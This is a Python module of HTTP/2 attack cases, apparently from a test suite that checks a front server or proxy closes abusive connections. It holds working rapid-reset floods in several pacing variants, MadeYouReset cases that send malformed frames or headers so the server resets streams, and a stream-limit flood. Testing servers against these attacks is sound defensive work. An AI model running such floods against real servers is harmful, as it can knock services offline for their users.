"""Streams opened and reset: by the attacker, or by the front for the attacker's errors."""

import time

import wire as w
from attack import attack


@attack("rapid reset, paired", must_close=True)
def paired(t):
    conn = t.connect()
    t.flood(conn, lambda i: t.open(conn, 2 * i + 1) + w.rst(2 * i + 1), t.many(20000), every=50)


@attack("rapid reset, paced 5 ms", must_close=True, close_within=10)
def paced(t):
    # Each request has been forwarded before it is reset: the backend must not see the flood either.
    conn = t.connect()

    def step(i):
        return (w.rst(2 * i - 9) if i >= 5 else b"") + t.open(conn, 2 * i + 1)
    t.flood(conn, step, t.many(20000), pause=0.001)


@attack("rapid reset after the response head", must_close=True, close_within=10)
def after_head(t):
    conn = t.connect((w.INITIAL_WINDOW_SIZE, 0))

    def step(i):
        return t.open(conn, 2 * i + 1) + w.data(2 * i + 1, w.message(b"x"), end=True) + (w.rst(2 * i - 39) if i >= 20 else b"")
    t.flood(conn, step, t.many(20000), pause=0.002, every=5)


@attack("rapid reset, reconnecting")
def reconnecting(t):
    # Fewer resets on each connection than any limit, on many connections.
    end, made = t.deadline(), 0
    while time.monotonic() < end and made < t.many(200):
        conn = t.connect()
        try:
            conn.send(b"".join(t.open(conn, 2 * i + 1) + w.rst(2 * i + 1) for i in range(15)))
        except w.Closed:
            pass
        conn.close()
        made += 1
    t.note = f"{made} connections"


def made_you_reset(name, frames, **options):
    """MadeYouReset: a complete request, then an error on its stream, so that the front resets it."""
    @attack(f"MadeYouReset: {name}", must_close=True, close_within=10, **options)
    def run(t):
        conn = t.connect()
        t.flood(conn, lambda i: t.open(conn, 2 * i + 1) + frames(t, conn, 2 * i + 1), t.many(4000), pause=0.001, every=4)


made_you_reset("WINDOW_UPDATE 0", lambda t, c, s: w.window_update(s, 0))
made_you_reset("window overflow", lambda t, c, s: w.window_update(s, 0x7FFFFFFF) + w.window_update(s, 0x7FFFFFFF), quick=False)
made_you_reset("PRIORITY on itself", lambda t, c, s: w.priority(s, depends=s), quick=False)
made_you_reset("PRIORITY of a wrong length", lambda t, c, s: w.frame(w.PRIORITY, 0, s, bytes(4)), quick=False)
made_you_reset("DATA after END_STREAM", lambda t, c, s: w.data(s, b"", end=True) + w.data(s, b"x"))
made_you_reset("HEADERS after END_STREAM", lambda t, c, s: w.data(s, b"", end=True) + t.open(c, s, end=True), quick=False)
made_you_reset("trailers without END_STREAM", lambda t, c, s: w.headers(s, c.encode([("x", "y")])), quick=False)


@attack("MadeYouReset: content-length mismatch", must_close=True, close_within=10)
def wrong_length(t):
    conn = t.connect()
    t.flood(conn, lambda i: t.open(conn, 2 * i + 1, ("content-length", "1")) + w.data(2 * i + 1, b"four", end=True),
            t.many(4000), pause=0.001, every=4)


@attack("MadeYouReset: malformed requests", must_close=True, close_within=10, quick=False)
def malformed(t):
    conn = t.connect()
    t.flood(conn, lambda i: t.open(conn, 2 * i + 1, ("connection", "close"), end=True), t.many(4000), pause=0.001, every=4)


@attack("streams beyond the limit", must_close=True, close_within=10)
def beyond(t):
    # 100 or 1,000 streams hold the places, all others are refused.
    conn = t.connect()
    t.flood(conn, lambda i: t.open(conn, 2 * i + 1), t.many(8000), pause=0.001, every=10)
